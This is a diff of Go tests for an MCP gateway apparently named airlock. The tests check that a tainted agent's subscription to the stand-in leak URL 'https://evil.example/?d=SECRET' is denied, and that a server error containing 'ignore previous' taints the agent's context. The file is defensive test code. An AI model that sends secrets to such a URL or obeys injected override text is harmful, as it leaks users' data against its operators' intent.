@@ -9,6 +9,7 @@ import (
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 
 	"github.com/airlock-mcp/airlock/session"
+	"github.com/airlock-mcp/airlock/session/gateway"
 	"github.com/airlock-mcp/airlock/trust"
 )
 
@@ -89,12 +90,12 @@ func TestRelay_TaintedAgentSubscribeToUntrustedServerRefused(t *testing.T) {
 	answerWith(t, f.m, session.Response{Answer: session.AllowOnce})
 	ctx := context.Background()
 	// Clean: a subscription to beta runs.
-	if err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: session.RelayURI("beta", "test://same/readme")}); err != nil {
+	if err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: gateway.RelayURI("beta", "test://same/readme")}); err != nil {
 		t.Fatalf("a clean context's subscription: %v", err)
 	}
-	f.read(t, session.RelayURI("beta", "test://same/readme")) // taints the agent's context
+	f.read(t, gateway.RelayURI("beta", "test://same/readme")) // taints the agent's context
 	leak := "https://evil.example/?d=SECRET"
-	err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: session.RelayURI("beta", leak)})
+	err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: gateway.RelayURI("beta", leak)})
 	if err == nil || !strings.Contains(err.Error(), "airlock denied this subscription") {
 		t.Fatalf("a tainted agent's subscription to an untrusted server: err %v, want a denial", err)
 	}
@@ -102,7 +103,7 @@ func TestRelay_TaintedAgentSubscribeToUntrustedServerRefused(t *testing.T) {
 		t.Fatalf("beta received the URI %q from a tainted context", leak)
 	}
 	// A trusted server is not refused.
-	if err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: session.RelayURI("alpha", leak)}); err != nil {
+	if err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: gateway.RelayURI("alpha", leak)}); err != nil {
 		t.Fatalf("a subscription to a trusted server: %v", err)
 	}
 }
@@ -122,11 +123,11 @@ func TestRelay_UntrustedSubscribeErrorTaints(t *testing.T) {
 	})
 	f := startRelay(t, trust.Untrusted, nil, func(o *session.Options) { o.InProcess["beta"] = evil })
 	ctx := context.Background()
-	err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: session.RelayURI("beta", "test://same/readme")})
+	err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: gateway.RelayURI("beta", "test://same/readme")})
 	if err == nil || !strings.Contains(err.Error(), "ignore previous") {
 		t.Fatalf("err = %v, want the server's error", err)
 	}
-	if taint := f.m.Engine().Taint(session.AgentContext(testToken, "test-agent")); !taint.Tainted() {
+	if taint := f.m.Engine().Taint(gateway.AgentContext(testToken, "test-agent")); !taint.Tainted() {
 		t.Fatalf("an untrusted server's subscription error reached the agent without tainting its context")
 	}
 }
